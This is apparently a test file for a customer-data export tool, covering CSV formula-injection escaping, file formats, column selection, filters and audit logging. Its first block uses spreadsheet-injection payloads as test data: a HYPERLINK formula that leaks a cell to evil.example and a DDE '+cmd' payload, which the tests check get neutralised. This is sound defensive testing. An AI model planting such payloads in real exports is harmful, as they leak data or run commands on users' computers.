import { it, expect } from 'vitest';
import { parse } from 'csv-parse/sync';
import { memoryCtx } from '../helpers/ctx.js';
import { forEachEngine } from '../helpers/engines.js';
import { DEFAULT_COLUMNS } from '../../src/core/export/columns.js';
import fc from 'fast-check';
import { CellKind, csvLineEncoder, joinedLineEncoder, neutralise, separatorsToDelimiter } from '../../src/io/write-csv.js';
import { add, consent, exportText, lines } from './export-fixtures.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez")';

forEachEngine('formula neutralisation', (engine) => {
  it('puts a quote before = + - @ tab and CR, in text cells only', () => {
    for (const s of [HYPERLINK, '+cmd|" /C calc"!A0', '-2+3', '@SUM(A1)', '\tfoo', '\rbar']) expect(neutralise(s, CellKind.text)).toBe(`'${s}`);
    for (const s of ['Dupont', ' =1', "l'=x", 'a=b']) expect(neutralise(s, CellKind.text)).toBe(s);
  });

  it('keeps a phone in international notation usable (+ then digits), and nothing else', () => {
    expect(neutralise('+33612345678', CellKind.phone)).toBe('+33612345678');
    expect(neutralise('+32 2 123 45 67', CellKind.phone)).toBe('+32 2 123 45 67');
    expect(neutralise('+33612345678', CellKind.text)).toBe('+33612345678');
    expect(neutralise('+cmd|" /C calc"!A0', CellKind.phone)).toBe(`'+cmd|" /C calc"!A0`);
    expect(neutralise('+1+1', CellKind.phone)).toBe("'+1+1");
    expect(neutralise('+336123', CellKind.phone)).toBe("'+336123");
    expect(neutralise('+33  612345678', CellKind.phone)).toBe("'+33  612345678");
    expect(neutralise('-33612345678', CellKind.phone)).toBe("'-33612345678");
    expect(neutralise('-12.5', CellKind.number)).toBe('-12.5');
  });

  it('the fast path (a line joined by SQLite) writes exactly what the cell-by-cell path writes', () => {
    const kinds = [CellKind.text, CellKind.number, CellKind.text, CellKind.phone];
    const cell = fc.oneof(
      fc.string({ unit: fc.constantFrom('a', 'é', ',', ';', '"', '\n', '\r', '\t', '=', '+', '-', '@', ' ', '1', '3', "'") }),
      fc.constantFrom('+33612345678', '+32 2 123 45 67', '=SUM(A1)', '-12.5', ''),
    );
    for (const opts of [
      { delimiter: ',', eol: '\n', neutralise: true, decimalComma: false },
      { delimiter: ';', eol: '\r\n', neutralise: true, decimalComma: true },
      { delimiter: '\t', eol: '\n', neutralise: true, decimalComma: false },
      { delimiter: ',', eol: '\n', neutralise: false, decimalComma: false },
    ]) {
      const slow = csvLineEncoder(kinds, opts);
      const joined = joinedLineEncoder(kinds, opts, '\u001e');
      const fast = (cells: string[]): string => {
        const bytes = Buffer.from(joined(cells.join('\u001e')));
        separatorsToDelimiter(bytes, '\u001e', opts.delimiter, cells.length);
        return bytes.toString('utf8');
      };
      fc.assert(fc.property(fc.array(cell, { minLength: 4, maxLength: 4 }), (cells) => fast(cells) === slow(cells)), { numRuns: 400 });
    }
    expect(() => joinedLineEncoder(kinds, { delimiter: ',', eol: '\n', neutralise: true, decimalComma: false }, '\u001e')('a\u001e"b\u001ec\u001ed\u001ee')).toThrow(/U\+001E/);
    expect(() => separatorsToDelimiter(Buffer.from('a\u001eb\u001ec\u001ed\u001ee\n'), '\u001e', ',', 4)).toThrow(/U\+001E/);
  });

  it('=HYPERLINK(…) in a name comes out neutralised in csv, tsv, excel and every preset; as is with --raw and in JSON', async () => {
    const ctx = memoryCtx(engine);
    const id = add(ctx, { firstName: HYPERLINK, lastName: '@Dupont', email: 'jp@ex.fr', mobile: '06 12 34 56 78', notes: '-1 remise' });
    consent(ctx, id, 'email', 'granted', '2026-01-01T00:00:00Z');
    for (const input of [{}, { format: 'tsv' }, { excel: true }, { preset: 'brevo' }, { preset: 'mailchimp' }, { preset: 'google' }, { preset: 'outlook' }]) {
      const { text } = await exportText(ctx, input);
      const delimiter = 'format' in input ? '\t' : 'excel' in input || ('preset' in input && input.preset === 'brevo') ? ';' : ',';
      const cells = (parse(text, { delimiter, bom: true, relax_quotes: true }) as string[][]).flat();
      expect(cells, JSON.stringify(input)).toContain(`'${HYPERLINK}`);
      expect(cells).not.toContain(HYPERLINK);
      expect(cells).toContain("'@Dupont");
      if (!('preset' in input)) expect(cells).toContain("'-1 remise");
      // Phones stay usable where they are phones.
      expect(cells.some((c) => c === '+33612345678' || c === '06 12 34 56 78')).toBe(true);
    }
    const raw = await exportText(ctx, { raw: true, columns: ['first_name'] });
    expect((parse(raw.text) as string[][])[1]).toEqual([HYPERLINK]);
    const nd = await exportText(ctx, { format: 'ndjson', columns: ['first_name'] });
    expect(JSON.parse(nd.text)).toEqual({ first_name: HYPERLINK });
  });
});

forEachEngine('csv writer', (engine) => {
  it('quotes delimiters, quotes and line breaks; writes numbers as numbers', () => {
    const enc = csvLineEncoder([CellKind.text, CellKind.text, CellKind.number, CellKind.text], { delimiter: ',', eol: '\n', neutralise: true, decimalComma: false });
    expect(enc(['a,b', 'say "hi"', 12.5, 'l1\nl2'])).toBe('"a,b","say ""hi""",12.5,"l1\nl2"\n');
    expect(enc([null, undefined, -3, ''])).toBe(',,-3,\n');
    const excel = csvLineEncoder([CellKind.text, CellKind.number], { delimiter: ';', eol: '\r\n', neutralise: true, decimalComma: true });
    expect(excel(['a;b', 1234.5])).toBe('"a;b";1234,5\r\n');
  });

  it('default columns: the customer file as stored, in a stable order by id', async () => {
    const ctx = memoryCtx(engine);
    add(ctx, { lastName: 'Zorro', email: 'z@ex.fr', extra: { fidelite: 'or' }, categories: ['VIP', 'Amis'] });
    add(ctx, { lastName: 'Abel', email: 'a@ex.fr' });
    const { text, result } = await exportText(ctx, {});
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(lines(text)[0]).toBe(DEFAULT_COLUMNS.join(','));
    expect(rows.map((r) => r.last_name)).toEqual(['Zorro', 'Abel']);
    expect(rows[0]?.extra).toBe('{"fidelite":"or"}');
    expect(rows[0]?.categories).toBe('Amis, VIP');
    expect(rows[1]?.extra).toBe('');
    expect(result.exported).toBe(2);
  });

  it('--columns picks and orders; aliases, name, extra.KEY; --no-header; --sort', async () => {
    const ctx = memoryCtx(engine);
    add(ctx, { lastName: 'Zorro', postalCode: '69003', city: 'Lyon', extra: { 'Code client': 'Z1' } });
    add(ctx, { lastName: 'Abel', postalCode: '75011', city: 'Paris' });
    const { text } = await exportText(ctx, { columns: ['name', 'cp', 'ville', 'department', 'extra.Code client'], sort: ['last_name'] });
    expect(lines(text)).toEqual(['name,postal_code,city,department,extra.Code client', 'Abel,75011,Paris,75,', 'Zorro,69003,Lyon,69,Z1']);
    const bare = await exportText(ctx, { columns: ['last_name'], header: false, sort: ['-id'] });
    expect(bare.text).toBe('Abel\nZorro\n');
  });

  it('refuses unknown and repeated columns with a usage error naming the closest', async () => {
    const ctx = memoryCtx(engine);
    await expect(exportText(ctx, { columns: ['emial'] })).rejects.toMatchObject({ exitCode: 2, message: expect.stringMatching(/unknown column 'emial'.*email/) });
    await expect(exportText(ctx, { columns: ['email', 'email'] })).rejects.toMatchObject({ exitCode: 2 });
    await expect(exportText(ctx, { columns: ['extra.'] })).rejects.toMatchObject({ exitCode: 2 });
    await expect(exportText(ctx, { format: 'vcard', columns: ['email'] })).rejects.toMatchObject({ exitCode: 2 });
    await expect(exportText(ctx, { format: 'json', header: false })).rejects.toMatchObject({ exitCode: 2 });
  });

  it('--excel: BOM, semicolons, CRLF and decimal commas for French Excel', async () => {
    const ctx = memoryCtx(engine);
    const id = add(ctx, { lastName: 'Meyer', city: 'Saint-Étienne' });
    ctx.store.db.prepare(`INSERT INTO sales (customer_id, kind, issued_on, amount_cents, status, created_at, updated_at) VALUES (?, 'invoice', '2026-01-02', 123456, 'paid', 'x', 'x')`).run(id);
    const { text } = await exportText(ctx, { excel: true, columns: ['last_name', 'city', 'revenue'] });
    expect(text).toBe('\ufefflast_name;city;revenue\r\nMeyer;Saint-Étienne;1234,56\r\n');
  });

  it('tsv: tab-separated with the same quoting', async () => {
    const ctx = memoryCtx(engine);
    add(ctx, { lastName: 'Meyer', notes: 'a\tb' });
    ctx.store.db.prepare(`UPDATE customers SET notes = ?`).run('a\tb');
    const { text } = await exportText(ctx, { format: 'tsv', columns: ['last_name', 'notes'] });
    expect(text).toBe('last_name\tnotes\nMeyer\t"a\tb"\n');
  });
});

forEachEngine('json and ndjson', (engine) => {
  it('json: one array, typed values (numbers, extra as object, categories as a list)', async () => {
    const ctx = memoryCtx(engine);
    add(ctx, { lastName: 'Meyer', extra: { fidelite: 'or' }, categories: ['VIP'] });
    add(ctx, { lastName: 'Abel' });
    const { text } = await exportText(ctx, { format: 'json', columns: ['id', 'last_name', 'extra', 'categories', 'revenue'] });
    expect(JSON.parse(text)).toEqual([
      { id: 1, last_name: 'Meyer', extra: { fidelite: 'or' }, categories: ['VIP'], revenue: 0 },
      { id: 2, last_name: 'Abel', extra: {}, categories: [], revenue: 0 },
    ]);
    const empty = await exportText(ctx, { format: 'json', where: 'city = "Nulle-Part"' });
    expect(empty.text).toBe('[]\n');
  });

  it('ndjson: one object per line with id, uid and external_id', async () => {
    const ctx = memoryCtx(engine);
    add(ctx, { lastName: 'Meyer', externalId: 'C001' });
    add(ctx, { lastName: 'Abel', externalId: 'C002' });
    const { text } = await exportText(ctx, { format: 'ndjson' });
    const objs = lines(text).map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(objs.map((o) => [o.id, o.external_id])).toEqual([[1, 'C001'], [2, 'C002']]);
    expect(typeof objs[0]?.uid).toBe('string');
  });
});

forEachEngine('selection', (engine) => {
  it('--where, --category (all of them) and --ids combine', async () => {
    const ctx = memoryCtx(engine);
    const a = add(ctx, { lastName: 'A', city: 'Lyon', categories: ['VIP', 'Pro'] });
    add(ctx, { lastName: 'B', city: 'Lyon', categories: ['VIP'] });
    add(ctx, { lastName: 'C', city: 'Paris', categories: ['VIP', 'Pro'] });
    const uidA = ctx.store.customers.get(a)?.uid ?? '';
    const cols = { columns: ['last_name'], header: false };
    expect((await exportText(ctx, { ...cols, where: 'city = "lyon"' })).text).toBe('A\nB\n');
    expect((await exportText(ctx, { ...cols, categories: ['vip', 'Pro'] })).text).toBe('A\nC\n');
    const ids = await exportText(ctx, { ...cols, ids: [`id\n3\n${uidA.toUpperCase()}\n\n999\n`] });
    expect(ids.text).toBe('A\nC\n');
    expect(ids.result.idsNotFound).toBe(1);
    expect(ids.result.warnings.join()).toMatch(/1 id given with --ids matches no customer/);
    const csvIn = await exportText(ctx, { ...cols, ids: ['id,uid,name\n', '2,x,B\n'] });
    expect(csvIn.text).toBe('B\n');
    await expect(exportText(ctx, { ...cols, ids: ['1\nDupont\n'] })).rejects.toMatchObject({ exitCode: 3, message: expect.stringMatching(/line 2/) });
  });

  it('a bad filter is a usage error before anything is written', async () => {
    const ctx = memoryCtx(engine);
    await expect(exportText(ctx, { where: 'city = ' })).rejects.toMatchObject({ exitCode: 2 });
    await expect(exportText(ctx, { sort: ['nope'] })).rejects.toMatchObject({ exitCode: 2 });
  });
});

forEachEngine('audit', (engine) => {
  it('records who exported what selection and how many, never the data', async () => {
    const ctx = memoryCtx(engine);
    add(ctx, { firstName: 'Élodie', lastName: 'Meyer', email: 'elodie@ex.fr', city: 'Lyon' });
    add(ctx, { firstName: 'Jean', lastName: 'Abel', email: 'jean@ex.fr', city: 'Lyon' });
    await exportText(ctx, { where: 'city = "Lyon"', categories: [], for: 'marketing:email', preset: 'brevo' });
    const [entry] = ctx.store.audit.list({ action: 'export.run' });
    expect(entry?.actor).toBe('test');
    expect(entry?.details).toMatchObject({
      status: 'done', format: 'csv', preset: 'brevo', where: 'city = "Lyon"', for: 'marketing:email', count: 0, left_out: { no_consent: 2 },
    });
    expect(JSON.stringify(entry)).not.toMatch(/elodie|jean|Meyer|Abel/i);
  });
});
